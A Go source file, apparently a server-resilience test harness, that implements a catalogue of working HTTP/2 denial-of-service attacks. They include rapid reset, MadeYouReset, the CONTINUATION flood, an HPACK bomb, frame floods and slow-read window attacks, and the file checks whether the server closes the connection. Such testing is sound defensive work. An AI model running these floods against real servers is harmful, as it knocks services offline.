package load

import (
	"context"
	"crypto/tls"
	"encoding/binary"
	"strings"
	"sync/atomic"
	"time"
)

// Attack is what one client of HTTP/2 sends again and again, on one connection, as fast as it is
// taken.
type Attack struct {
	Name     string
	settings string                          // of its first SETTINGS frame
	prepare  func(host string) []byte        // sent once; nil: nothing
	step     func(host string, i int) []byte // i = 0, 1, …; nil: it waits
	pause    time.Duration                   // between two steps
	unread   bool                            // it does not read what it is sent
}

// Attacked is how an attack ended.
type Attacked struct {
	Ended bool          // by the server, within the limit
	After time.Duration // since the attack began
	Steps int
	Code  int // of the GOAWAY frame; -1: there was none
}

// Run attacks until the server ends the connection, at most for a time.
func (a *Attack) Run(ctx context.Context, host string, config *tls.Config, limit time.Duration) (Attacked, error) {
	out := Attacked{Code: -1}
	c, err := dialFramed(ctx, host, config, nil, a.settings)
	if err != nil {
		return out, err
	}
	defer c.reset()
	if err := c.until(func(f frame) bool { return f.kind == frameSettings && f.flags&flagAck == 0 }); err != nil {
		return out, err
	}
	begin := time.Now()
	c.SetDeadline(begin.Add(limit))
	var after atomic.Int64 // when the server ended it, since begin
	var code atomic.Int64
	code.Store(-1)
	over := make(chan struct{})
	go func() {
		defer close(over)
		for a.unread && after.Load() == 0 && time.Since(begin) < limit { // the writer sees the end
			time.Sleep(10 * time.Millisecond)
		}
		for {
			f, err := c.next()
			if err == nil && f.kind == frameGoAway && len(f.payload) >= 8 {
				if k := binary.BigEndian.Uint32(f.payload[4:]); k != 0 {
					code.Store(int64(k))
				}
			}
			if err != nil && time.Since(begin) >= limit {
				return // our own patience
			}
			if err != nil || code.Load() >= 0 {
				after.CompareAndSwap(0, int64(time.Since(begin)))
				c.NetConn().Close()
				return
			}
		}
	}()
	steps := 0
	b := []byte{}
	if a.prepare != nil {
		b = a.prepare(host)
	}
	for alive := true; alive; {
		for a.step != nil && len(b) < 8<<10 {
			b = append(b, a.step(host, steps)...)
			steps++
			if a.pause > 0 {
				break
			}
		}
		if len(b) == 0 {
			b = appendFrame(b, framePing, flagAck, 0, "anybody?") // to see whether it is there; nobody answers it
		}
		if _, err := c.Write(b); err != nil {
			if time.Since(begin) < limit {
				after.CompareAndSwap(0, int64(time.Since(begin)))
			}
			break
		}
		b = b[:0]
		wait := a.pause
		if a.step == nil {
			wait = time.Second
		}
		if wait == 0 {
			select {
			case <-over:
				alive = false
			default:
			}
			continue
		}
		select {
		case <-over:
			alive = false
		case <-time.After(wait):
			alive = time.Since(begin) < limit
		case <-ctx.Done():
			return out, context.Cause(ctx)
		}
	}
	if a.unread && after.Load() == 0 {
		after.Store(0)
	}
	c.SetDeadline(time.Now())
	<-over
	out.Steps, out.Code = steps, int(code.Load())
	if d := time.Duration(after.Load()); d > 0 && d < limit {
		out.Ended, out.After = true, d
	}
	return out, nil
}

// attacked is the path of requests that a program counts.
const attackedPath = "/victim"

func attackHead(id uint32, host string, end bool, more ...string) []byte {
	flags, method := byte(flagEndHeaders|flagEnd), "GET"
	if !end {
		flags, method = flagEndHeaders, "POST"
	}
	return appendFrame(nil, frameHeaders, flags, id, block(method, host, attackedPath, more...))
}

func odd(i int) uint32 { return uint32(2*i + 1) }

func openPost(host string) []byte { return attackHead(1, host, false) }

func unfinished(host string) []byte {
	return appendFrame(nil, frameHeaders, flagEnd, 1, block("GET", host, attackedPath))
}

func setting(id uint16, value uint32) string {
	return string(binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint16(nil, id), value))
}

// downloads asks for long answers on many streams.
func downloads(host string) []byte {
	var b []byte
	for i := range 100 {
		b = appendFrame(b, frameHeaders, flagEnd|flagEndHeaders, odd(i), block("GET", host, "/big?n=1048576"))
	}
	return b
}

// Attacks are the known ones that end by what they send.
var Attacks = []Attack{
	{Name: "rapid reset (CVE-2023-44487)", step: func(host string, i int) []byte {
		return appendUint32Frame(attackHead(odd(i), host, true), frameReset, odd(i), 8)
	}},
	{Name: "MadeYouReset by an increment of 0 (CVE-2025-8671)", step: func(host string, i int) []byte {
		return appendUint32Frame(attackHead(odd(i), host, true), frameWindow, odd(i), 0)
	}},
	{Name: "MadeYouReset by a window overflow", step: func(host string, i int) []byte {
		return appendUint32Frame(attackHead(odd(i), host, true), frameWindow, odd(i), 1<<31-1)
	}},
	{Name: "MadeYouReset by DATA behind the end", step: func(host string, i int) []byte {
		return appendFrame(attackHead(odd(i), host, true), frameData, 0, odd(i), "x")
	}},
	{Name: "malformed requests", step: func(host string, i int) []byte { return attackHead(odd(i), host, true, "Upper", "x") }},
	{Name: "streams beyond the limit", step: func(host string, i int) []byte { return attackHead(odd(i), host, false) }},
	{Name: "CONTINUATION flood (CVE-2024-27316)", prepare: unfinished, step: func(string, int) []byte {
		return appendFrame(nil, frameContinuation, 0, 1, literal("a", "b"))
	}},
	{Name: "empty CONTINUATIONs", prepare: unfinished, step: func(string, int) []byte { return appendFrame(nil, frameContinuation, 0, 1, "") }},
	{Name: "HPACK bomb (CVE-2016-6581)", step: func(host string, i int) []byte {
		long := "\x40" + integer(7, 1) + "a" + integer(7, 4000) + strings.Repeat("x", 4000)
		return appendFrame(nil, frameHeaders, flagEnd|flagEndHeaders, odd(i), long+strings.Repeat("\xbe", 12_000))
	}},
	{Name: "headers of 40 KiB", step: func(host string, i int) []byte {
		b := appendFrame(nil, frameHeaders, flagEnd, odd(i), block("GET", host, attackedPath)+literal("a", strings.Repeat("x", 13_000)))
		b = appendFrame(b, frameContinuation, 0, odd(i), literal("b", strings.Repeat("x", 13_000)))
		return appendFrame(b, frameContinuation, flagEndHeaders, odd(i), literal("c", strings.Repeat("x", 13_000)))
	}},
	{Name: "SETTINGS flood (CVE-2019-9515)", step: func(string, int) []byte { return appendFrame(nil, frameSettings, 0, 0, "") }},
	{Name: "SETTINGS full of entries", step: func(string, int) []byte {
		return appendFrame(nil, frameSettings, 0, 0, strings.Repeat(setting(settingWindow, 7), 2000))
	}},
	{Name: "PING flood (CVE-2019-9512)", step: func(string, int) []byte { return appendFrame(nil, framePing, 0, 0, "attacked") }},
	{Name: "PRIORITY flood (CVE-2019-9513)", step: func(_ string, i int) []byte {
		return appendFrame(nil, framePriority, 0, odd(i%1000), "\x00\x00\x00\x00\x10")
	}},
	{Name: "PRIORITY_UPDATE flood", step: func(_ string, i int) []byte {
		return appendFrame(nil, framePriorityUpdate, 0, 0, string(binary.BigEndian.AppendUint32(nil, odd(i%1000)))+"u=1")
	}},
	{Name: "WINDOW_UPDATE flood", step: func(string, int) []byte { return appendUint32Frame(nil, frameWindow, 0, 1) }},
	{Name: "a window of 2^31 and more", step: func(string, int) []byte { return appendUint32Frame(nil, frameWindow, 0, 1<<31-1) }},
	{Name: "empty DATA frames (CVE-2019-9518)", prepare: openPost, step: func(string, int) []byte { return appendFrame(nil, frameData, 0, 1, "") }},
	{Name: "RST_STREAM again and again", prepare: openPost, step: func(string, int) []byte { return appendUint32Frame(nil, frameReset, 1, 8) }},
	{Name: "unknown frames", step: func(string, int) []byte { return appendFrame(nil, 0xfe, 0, 0, "") }},
	{Name: "windows opened byte by byte (CVE-2019-9511)", settings: setting(settingWindow, 0), prepare: downloads, step: func(_ string, i int) []byte {
		return appendUint32Frame(nil, frameWindow, odd(i%100), 1)
	}},
}

// SlowAttacks are those that do nothing: they take time and memory, and are made at once.
var SlowAttacks = []Attack{
	{Name: "100 downloads whose windows stay closed", settings: setting(settingWindow, 0), prepare: downloads},
	{Name: "100 downloads, and the window of the connection stays closed", settings: setting(settingWindow, 1<<20), prepare: downloads},
	{Name: "100 downloads that nobody reads", settings: setting(settingWindow, 1<<30), prepare: func(host string) []byte {
		return append(appendUint32Frame(nil, frameWindow, 0, 1<<30), downloads(host)...)
	}, unread: true},
}
